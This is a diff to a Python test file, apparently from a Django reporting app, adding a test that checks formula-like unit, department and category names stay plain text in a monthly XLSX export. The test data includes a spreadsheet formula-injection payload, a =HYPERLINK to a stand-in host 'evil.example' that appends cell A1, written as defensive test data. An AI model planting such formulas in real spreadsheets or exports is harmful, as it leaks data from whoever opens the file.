@@ -335,6 +335,25 @@ def test_monthly_xlsx__empty_month_says_none(history, people, tree):
     assert any(report.notes[0] in str(row[0]) for row in overview)
 
 
+def test_monthly_xlsx__names_that_look_like_formulas_stay_text(history, people, tree, categories):
+    from gongzhi.core.tests.xlsx_support import assert_text_kept
+    from gongzhi.orgs.models import Department, OrgUnit
+
+    evil_unit, evil_department, evil_category = (
+        '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
+        "@SUM(A1:A9)",
+        "-2+3",
+    )
+    OrgUnit.objects.filter(pk=tree.community.pk).update(name=evil_unit)
+    Department.objects.filter(pk=tree.department.pk).update(name=evil_department)
+    Category.objects.filter(pk=categories[0].pk).update(name=evil_category)
+
+    report = monthly.monthly_report(people.op_district, tree.district.code, 2026, 10)
+    data = monthly_xlsx.monthly_xlsx(report)
+
+    assert_text_kept(data, (evil_unit, evil_department, evil_category))
+
+
 # -- the page ------------------------------------------------------------------------
 
 
@@ -356,7 +375,7 @@ def test_monthly_page__shows_the_report(history, people, tree, login):
     for name in (tree.community.name, tree.community2.name, tree.department.name):
         assert name in html
     assert reverse("command_monthly_xlsx") + f"?unit={tree.sub.code}&amp;month=2026-10" in html
-    assert "window.print()" in html
+    assert "data-print" in html  # the print button (web/static/js/site.js)
     assert not AuditLog.objects.filter(action="command.monthly_export").exists()
 
 
